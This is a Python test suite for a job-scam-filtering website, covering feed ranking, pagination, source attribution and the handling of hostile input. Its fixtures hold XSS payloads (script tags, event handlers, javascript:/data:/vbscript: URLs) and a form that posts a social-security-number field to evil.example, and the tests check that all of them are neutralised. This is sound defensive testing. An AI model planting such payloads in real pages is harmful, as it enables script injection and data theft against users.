"""The site: feed ranking and filters, pagination, details, attribution, hostile listings, bad input."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, unquote, urlsplit

import pytest
from bs4 import BeautifulSoup
from fastapi.testclient import TestClient

from jobsieve.config import Settings
from jobsieve.listing import Listing, Risk, Signal
from jobsieve.store import Store
from web.app import create_app
from web.attribution import credit_for
from web.filters import is_safe_url
from web.labels import pay

HOSTILE_HTML = (
    "<p>Great <strong>pay</strong>!</p>"
    "<script>window.__pwned = 'script'; document.title = 'pwned'</script>"
    '<img src="x" onerror="window.__pwned = \'img\'">'
    '<svg onload="window.__pwned = \'svg\'"><circle r="1"/></svg>'
    "<a href=\"javascript:window.__pwned = 'link'\">click me</a>"
    "<a href=\" JaVaScRiPt:window.__pwned = 'spaced'\">or me</a>"
    '<iframe src="data:text/html,<script>parent.__pwned = 1</script>"></iframe>'
    "<style>body { display: none }</style>"
    '<form action="https://evil.example/steal"><input name="ssn"><button>Send</button></form>'
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">'
    '<div onclick="window.__pwned = \'div\'"><p>unclosed <b>bold <a href="https://example.org/ok">ok link'
)
HOSTILE_TEXT = "<img src=x onerror=\"window.__pwned = 'title'\">Data entry"
GERMAN_PAY = "EUR 2,400\N{EN DASH}2,800 a month"
HOSTILE_SCRIPT = "<script>window.__pwned = 'only-script'</script>"


def _risk(level: str, score: float, *signals: tuple[str, float, str]) -> Risk:
    return Risk(score=score, level=level, signals=[Signal(*s) for s in signals], model_version="rules-2026.1")


def sample_listings() -> list[Listing]:
    """Listings at every risk level, in English, German and Danish, and hostile ones."""
    return [
        Listing(
            source="remoteok",
            source_id="ok-old",
            url="https://remoteOK.com/remote-jobs/ok-old",
            apply_url="https://employer.example/apply",
            title="Virtual Assistant to the CEO",
            company="Acme Remote",
            description_html="<p>Support our <strong>CEO</strong>.</p>"
            "<ul><li>Calendar</li><li>Travel</li></ul>"
            '<p>Mail <a href="mailto:jobs@acme.example">jobs@acme.example</a>.</p>',
            description="Support our CEO.",
            location="Worldwide",
            remote="fully_remote",
            employment_type="full_time",
            salary_text="$25-30 an hour",
            posted_at="2026-03-10T09:00:00+00:00",
            language="en",
            tags=["assistant", "calendar"],
            risk=_risk("low", 0.04),
        ),
        Listing(
            source="arbeitnow",
            source_id="de-new",
            url="https://www.arbeitnow.com/jobs/virtuelle-assistenz",
            title="Virtuelle Assistenz (m/w/d) in Teilzeit",
            company="Büro Müller GmbH",
            description="Wir suchen eine virtuelle Assistenz für die Terminplanung.",
            location="Berlin",
            remote="partially_remote",
            employment_type="part_time",
            salary_min=2400,
            salary_max=2800,
            salary_currency="EUR",
            salary_period="month",
            posted_at="2026-03-15T12:00:00+00:00",
            language="de",
            risk=_risk("low", 0.12),
        ),
        Listing(
            source="remotive",
            source_id="da-medium",
            url="https://remotive.com/remote-jobs/da-medium",
            title="Virtuel assistent søges",
            company="Hjemmekontor ApS",
            description="Ansøg nu - begrænsede pladser.",
            location="Danmark",
            posted_at="2026-03-16T08:00:00+00:00",
            language="da",
            risk=_risk("medium", 0.48, ("urgency", 0.3, "Ansøg nu - begrænsede pladser")),
        ),
        Listing(
            source="remoteok",
            source_id="scam",
            url="https://remoteOK.com/remote-jobs/scam",
            apply_url="https://t.me/recruiter_hr",
            title="Personal Assistant — $45/h, no experience",
            description="Pay the $99 starter kit fee and message us on Telegram.",
            posted_at="2026-03-16T10:00:00+00:00",
            language="en",
            risk=_risk(
                "high",
                0.93,
                ("upfront_fee", 0.6, "Pay the $99 starter kit fee"),
                ("chat_interview", 0.4, "message us on Telegram"),
            ),
        ),
        Listing(
            source="remoteok",
            source_id="hostile",
            url=" JaVaScRiPt:alert(document.domain)",
            apply_url="javascript:alert(1)",
            title=HOSTILE_TEXT,
            company="<script>window.__pwned = 'company'</script>ACME",
            description_html=HOSTILE_HTML,
            description="Great pay!",
            location='"><svg onload=alert(1)>',
            salary_text="<b onmouseover=alert(1)>$9000/week</b>",
            language='en" onmouseover="alert(1)',
            tags=["<a href=javascript:alert(1)>tag</a>"],
            risk=_risk("medium", 0.55, ("vague_listing", 0.2, '"><script>window.__pwned = 1</script>')),
        ),
        Listing(
            source="evilboard",
            source_id="hostile-high",
            url="vbscript:msgbox(1)",
            apply_url="data:text/html,<script>alert(1)</script>",
            title="Package handler (reshipping)",
            description_html=HOSTILE_SCRIPT,
            description="Receive parcels at home and reship them.",
            language="en",
            risk=_risk("high", 0.97, ("reshipping", 0.7, "Receive parcels at home")),
        ),
        Listing(
            source="greenhouse",
            source_id="unscored",
            url="https://boards.greenhouse.io/acme/jobs/1",
            title="Executive assistant",
            attribution="Acme careers",
            description="Not scored yet.",
        ),
    ]


def _id(source_id: str) -> str:
    return next(listing.id for listing in sample_listings() if listing.source_id == source_id)


@pytest.fixture
def filled_store(tmp_path: Path) -> Iterator[Store]:
    store = Store.open(f"sqlite:///{tmp_path}/t.sqlite3")
    store.upsert_listings(sample_listings())
    yield store
    store.close()


def make_client(tmp_path: Path, store: Store, page_size: int = 50) -> TestClient:
    return TestClient(create_app(Settings(data_dir=tmp_path, page_size=page_size), store))


@pytest.fixture
def client(tmp_path: Path, filled_store: Store) -> Iterator[TestClient]:
    with make_client(tmp_path, filled_store) as client:
        yield client


def soup_of(response: Any) -> BeautifulSoup:
    assert response.headers["content-type"].startswith("text/html")
    return BeautifulSoup(response.text, "html.parser")


def feed_ids(soup: BeautifulSoup) -> list[str]:
    """The ids of the listings on a feed page, in order."""
    links = soup.select("ol.feed > li h2 a[href]")
    return [unquote(str(link["href"]).removeprefix("/listings/")) for link in links]


def live_markup_problems(soup: BeautifulSoup) -> list[str]:
    """What in a page could run code, restyle it or send data away."""
    problems = [
        f"<{tag.name}>" for tag in soup.find_all(["script", "style", "iframe", "object", "embed", "svg"])
    ]
    ours = soup.select("form.filter, form.filter *")
    problems += [
        f"<{tag.name}> in the body"
        for tag in soup.body.find_all(["form", "meta", "img", "input", "button"])
        if tag not in ours
    ]
    for tag in soup.find_all(True):
        for name, value in tag.attrs.items():
            if name.lower().startswith("on") or name.lower() == "style":
                problems.append(f"{name}= on <{tag.name}>")
            if name in ("href", "src", "action", "formaction"):
                url = str(value)
                if not (
                    url.startswith(("/", "?", "#")) or urlsplit(url).scheme in ("http", "https", "mailto")
                ):
                    problems.append(f"{name}={url!r} on <{tag.name}>")
    return problems


def test_feed_ranks_safest_first_then_newest_and_hides_high_risk(client: TestClient) -> None:
    soup = soup_of(client.get("/"))
    assert feed_ids(soup) == [_id("de-new"), _id("ok-old"), _id("da-medium"), _id("hostile")]
    assert not soup.select(".risk-high")
    assert "2 high-risk listings are hidden" in soup.select_one(".notice").get_text(" ", strip=True)
    checked = [box["value"] for box in soup.select("form.filter input[name=risk][checked]")]
    assert checked == ["low", "medium"]


def test_feed_shows_high_risk_on_request_with_a_warning(client: TestClient) -> None:
    soup = soup_of(client.get("/?risk=high"))
    rows = soup.select("ol.feed > li")
    assert feed_ids(soup) == [_id("scam"), _id("hostile-high")]
    for row in rows:
        assert "risk-high" in row["class"]
        assert "Warning" in row.select_one(".warning").get_text()
        assert row.select_one(".badge").get_text(" ", strip=True).startswith("High risk")
    assert [box["value"] for box in soup.select("input[name=risk][checked]")] == ["high"]
    assert soup.select_one(".notice") is None


def test_feed_risk_levels_combine_and_repeat_harmlessly(client: TestClient) -> None:
    soup = soup_of(client.get("/?risk=high&risk=low&risk=low"))
    assert feed_ids(soup) == [_id("de-new"), _id("ok-old"), _id("scam"), _id("hostile-high")]


def test_feed_row_shows_the_facts_of_a_listing(client: TestClient) -> None:
    soup = soup_of(client.get("/"))
    row = soup.select("ol.feed > li")[0]
    text = row.get_text(" ", strip=True)
    for fact in (
        "Büro Müller GmbH",
        "Berlin",
        "Partly remote",
        "2026-03-15",
        GERMAN_PAY,
        "German",
    ):
        assert fact in text
    assert "Low risk score 0.12" in row.select_one(".badge").get_text(" ", strip=True)
    assert row.select_one("time")["datetime"] == "2026-03-15"
    assert row.select_one("a.source")["href"] == "https://www.arbeitnow.com/jobs/virtuelle-assistenz"
    assert row.select_one("h2")["lang"] == "de"


def test_feed_pages(tmp_path: Path, filled_store: Store) -> None:
    with make_client(tmp_path, filled_store, page_size=2) as client:
        first = soup_of(client.get("/?risk=low&risk=medium&risk=high"))
        second = soup_of(client.get("/?risk=low&risk=medium&risk=high&page=2"))
        last = soup_of(client.get("/?risk=low&risk=medium&risk=high&page=3"))
        beyond = client.get("/?risk=low&risk=medium&risk=high&page=4")
    assert feed_ids(first) == [_id("de-new"), _id("ok-old")]
    assert feed_ids(second) == [_id("da-medium"), _id("hostile")]
    assert feed_ids(last) == [_id("scam"), _id("hostile-high")]
    next_query = parse_qs(urlsplit(first.select_one("a[rel=next]")["href"]).query)
    assert next_query == {"risk": ["low", "medium", "high"], "page": ["2"]}
    assert first.select_one("a[rel=prev]") is None
    assert parse_qs(urlsplit(second.select_one("a[rel=prev]")["href"]).query) == {
        "risk": ["low", "medium", "high"]
    }
    assert last.select_one("a[rel=next]") is None
    assert "Page 3 of 3" in last.select_one("nav.pages").get_text()
    assert second.select_one("ol.feed")["start"] == "3"
    assert beyond.status_code == 404
    assert "There is no page 4" in beyond.text


def test_empty_feed_says_so(tmp_path: Path) -> None:
    store = Store.open(f"sqlite:///{tmp_path}/empty.sqlite3")
    try:
        with make_client(tmp_path, store) as client:
            soup = soup_of(client.get("/"))
    finally:
        store.close()
    assert soup.select_one(".empty h2").get_text() == "No listings to show"
    assert not soup.select("ol.feed")


def test_detail_shows_facts_risk_signals_and_evidence(client: TestClient) -> None:
    soup = soup_of(client.get(f"/listings/{_id('scam')}"))
    assert soup.select_one("h1").get_text() == "Personal Assistant — $45/h, no experience"
    assert "score 0.93" in soup.select_one(".risk-panel .badge").get_text()
    assert "strong signs of a scam" in soup.select_one(".risk-panel .warning").get_text()
    assert "rules-2026.1" in soup.select_one(".risk-panel").get_text()
    rows = [
        [cell.get_text(" ", strip=True) for cell in row.find_all(["th", "td"])]
        for row in soup.select(".signals tbody tr")
    ]
    assert rows == [
        ["Asks the applicant to pay upfront_fee", "0.60", "Pay the $99 starter kit fee"],
        ["Interview only by chat chat_interview", "0.40", "message us on Telegram"],
    ]


def test_detail_of_a_german_listing(client: TestClient) -> None:
    soup = soup_of(client.get(f"/listings/{_id('de-new')}"))
    assert soup.html["lang"] == "en"
    assert soup.select_one("h1")["lang"] == "de"
    assert soup.select_one(".prose")["lang"] == "de"
    facts = dict(
        zip(
            [dt.get_text() for dt in soup.select("dl.facts dt")],
            [dd.get_text(" ", strip=True) for dd in soup.select("dl.facts dd")],
            strict=True,
        )
    )
    assert facts["Pay"] == GERMAN_PAY
    assert facts["Remote"] == "Partly remote"
    assert facts["Employment"] == "Part time"
    assert facts["Posted"] == "2026-03-15"
    assert facts["Language"] == "German"
    assert "Wir suchen eine virtuelle Assistenz" in soup.select_one(".prose").get_text()
    assert "No warning signs were found." in soup.select_one(".risk-panel").get_text()


def test_detail_keeps_safe_formatting_of_the_description(client: TestClient) -> None:
    soup = soup_of(client.get(f"/listings/{_id('ok-old')}"))
    prose = soup.select_one(".prose")
    assert prose.select_one("strong").get_text() == "CEO"
    assert [li.get_text() for li in prose.select("li")] == ["Calendar", "Travel"]
    assert [li.get_text() for li in soup.select("ul.tags li")] == ["assistant", "calendar"]


def test_remote_ok_link_back_is_followed_and_credited(client: TestClient) -> None:
    soup = soup_of(client.get(f"/listings/{_id('ok-old')}"))
    link = soup.select_one("dl.facts a.source")
    assert link["href"] == "https://remoteOK.com/remote-jobs/ok-old"
    assert link.get_text(strip=True) == "via Remote OK"
    assert "nofollow" not in link["rel"]
    assert {"noopener", "noreferrer"} <= set(link["rel"])
    apply = soup.select_one(".apply a.button")
    assert apply["href"] == "https://employer.example/apply"
    assert {"noopener", "noreferrer", "nofollow"} <= set(apply["rel"])


def test_every_outbound_link_is_noopener_noreferrer(client: TestClient) -> None:
    for path in (
        "/?risk=low&risk=medium&risk=high",
        f"/listings/{_id('ok-old')}",
        f"/listings/{_id('hostile')}",
    ):
        for link in soup_of(client.get(path)).select("a[href^=http]"):
            assert {"noopener", "noreferrer"} <= set(link["rel"]), link


@pytest.mark.parametrize(
    ("listing", "text", "followed", "apply_to_listing"),
    [
        (Listing(source="remoteok", source_id="1", url="u", title="t"), "via Remote OK", True, False),
        (Listing(source="remotive", source_id="1", url="u", title="t"), "via Remotive", True, False),
        (Listing(source="jobicy", source_id="1", url="u", title="t"), "via Jobicy", True, True),
        (Listing(source="lever", source_id="1", url="u", title="t"), "via lever", False, False),
        (
            Listing(source="x", source_id="1", url="u", title="t", attribution="X Jobs"),
            "via X Jobs",
            False,
            False,
        ),
    ],
)
def test_credit_per_source(listing: Listing, text: str, followed: bool, apply_to_listing: bool) -> None:
    credit = credit_for(listing)
    assert (credit.text, credit.followed, credit.apply_at_source) == (text, followed, apply_to_listing)
    assert ("nofollow" in credit.rel) is not followed


def test_unscored_listing_and_unknown_source(client: TestClient) -> None:
    soup = soup_of(client.get(f"/listings/{_id('unscored')}"))
    assert "Not scored yet" in soup.select_one(".risk-panel .badge").get_text()
    link = soup.select_one("a.source")
    assert link.get_text(strip=True) == "via Acme careers"
    assert "nofollow" in link["rel"]


@pytest.mark.parametrize("path", ["/", "/?risk=high", "/listings/{hostile}", "/listings/{hostile-high}"])
def test_hostile_listings_never_become_live_markup(client: TestClient, path: str) -> None:
    path = path.format_map({"hostile": _id("hostile"), "hostile-high": _id("hostile-high")})
    soup = soup_of(client.get(path))
    assert live_markup_problems(soup) == []
    assert not soup.find_all(attrs={"href": re.compile(r"^\s*(javascript|data|vbscript):", re.IGNORECASE)})


def test_hostile_text_is_shown_as_text(client: TestClient) -> None:
    soup = soup_of(client.get(f"/listings/{_id('hostile')}"))
    assert soup.select_one("h1").get_text() == HOSTILE_TEXT
    assert soup.select_one(".company").get_text() == "<script>window.__pwned = 'company'</script>ACME"
    assert soup.select_one(".signals q").get_text() == '"><script>window.__pwned = 1</script>'
    assert soup.select_one("ul.tags li").get_text() == "<a href=javascript:alert(1)>tag</a>"
    assert soup.select_one("h1").get("lang") is None
    prose = soup.select_one(".prose")
    assert prose.select_one("strong").get_text() == "pay"
    assert [a["href"] for a in prose.select("a[href]")] == ["https://example.org/ok"]


def test_unsafe_urls_are_not_links(client: TestClient) -> None:
    for source_id in ("hostile", "hostile-high"):
        soup = soup_of(client.get(f"/listings/{_id(source_id)}"))
        assert soup.select_one("a.source") is None
        assert soup.select_one("span.source").get_text(strip=True).startswith("via ")
        assert soup.select_one(".apply a") is None
        assert "not a web link" in soup.select_one(".apply").get_text()


def test_description_that_is_only_a_script_falls_back_to_plain_text(client: TestClient) -> None:
    soup = soup_of(client.get(f"/listings/{_id('hostile-high')}"))
    assert soup.select_one(".prose.plain").get_text() == "Receive parcels at home and reship them."


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/?risk=high",
        "/listings/{id}",
        "/listings/unknown",
        "/?page=abc",
        "/?" + "page=1&" * 2000,
        "/healthz",
        "/static/site.css",
    ],
)
def test_security_headers_on_every_response(client: TestClient, path: str) -> None:
    response = client.get(path.format(id=_id("scam")))
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Referrer-Policy"] == "strict-origin-when-cross-origin"
    policy = dict(
        part.strip().split(" ", 1) for part in response.headers["Content-Security-Policy"].split(";")
    )
    assert policy == {
        "default-src": "'self'",
        "script-src": "'none'",
        "object-src": "'none'",
        "base-uri": "'none'",
        "form-action": "'self'",
        "frame-ancestors": "'none'",
        "img-src": "'self'",
        "style-src": "'self'",
    }


def test_our_pages_have_no_inline_script_or_style(client: TestClient) -> None:
    for path in ("/", f"/listings/{_id('scam')}", "/listings/unknown", "/?page=0"):
        soup = BeautifulSoup(client.get(path).text, "html.parser")
        assert not soup.find_all(["script", "style"])
        assert not soup.find_all(style=True)
        assert soup.select_one("link[rel=stylesheet]")["href"] == "/static/site.css"


@pytest.mark.parametrize(
    ("query", "status", "message"),
    [
        ("risk=extreme", 400, "Parameter “risk”"),
        ("risk=", 400, "Parameter “risk”"),
        ("risk=<script>", 400, "Parameter “risk”"),
        ("page=abc", 400, "Parameter “page”: Input should be a valid integer"),
        ("page=-1", 400, "Parameter “page”: Input should be greater than or equal to 1"),
        ("page=0", 400, "Parameter “page”"),
        ("page=1.5", 400, "Parameter “page”"),
        ("page=99999999999999999999", 400, "Parameter “page”: Input should be less than or equal to"),
        ("risk=low&" * 1000, 414, "This address is too long"),
        ("q=" + "x" * 5000, 414, "This address is too long"),
    ],
)
def test_bad_parameters_get_a_clear_error_page(
    client: TestClient, query: str, status: int, message: str
) -> None:
    response = client.get(f"/?{query}")
    assert response.status_code == status
    soup = soup_of(response)
    assert message in soup.select_one(".error").get_text()
    assert "<script>" not in response.text
    assert soup.select_one(".error a")["href"] == "/"


@pytest.mark.parametrize(
    "path", ["/listings/unknown", "/listings/%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/nowhere"]
)
def test_unknown_pages_are_404(client: TestClient, path: str) -> None:
    response = client.get(path)
    assert response.status_code == 404
    soup = soup_of(response)
    assert soup.select_one(".error h1").get_text(" ", strip=True) == "Not Found (404)"
    assert soup.select_one(".error li").get_text()
    assert not soup.find_all("script")


def test_healthz(client: TestClient) -> None:
    response = client.get("/healthz")
    assert response.json() == {"status": "ok", "listings": len(sample_listings())}


def test_app_opens_and_closes_its_own_store(tmp_path: Path) -> None:
    settings = Settings(data_dir=tmp_path / "data")
    with TestClient(create_app(settings)) as client:
        assert client.get("/healthz").json() == {"status": "ok", "listings": 0}
        assert soup_of(client.get("/")).select_one(".empty")
    assert (tmp_path / "data" / "jobsieve.sqlite3").exists()


@pytest.mark.parametrize(
    ("url", "safe"),
    [
        ("https://remoteOK.com/remote-jobs/1", True),
        ("http://example.org", True),
        ("javascript:alert(1)", False),
        ("JAVASCRIPT:alert(1)", False),
        (" javascript:alert(1)", False),
        ("java\tscript:alert(1)", False),
        ("data:text/html,hi", False),
        ("vbscript:msgbox(1)", False),
        ("mailto:hr@example.org", False),
        ("//evil.example/x", False),
        ("/listings/1", False),
        ("https://", False),
        ("http://[::1", False),
        (None, False),
        (42, False),
    ],
)
def test_is_safe_url(url: object, safe: bool) -> None:
    assert is_safe_url(url) is safe


def test_pay_prefers_the_sources_text() -> None:
    listing = Listing(source="s", source_id="1", url="u", title="t", salary_text="€15/h", salary_min=15)
    assert pay(listing) == "€15/h"
    listing.salary_text = None
    assert pay(listing) == "15"
    listing.salary_min = None
    assert pay(listing) is None


def test_every_stored_code_has_words_on_the_site() -> None:
    from jobsieve.listing import EMPLOYMENT_TYPES, REMOTE_KINDS, RISK_LEVELS
    from web.labels import LABELS

    assert set(REMOTE_KINDS) | set(EMPLOYMENT_TYPES) | set(RISK_LEVELS) <= set(LABELS)
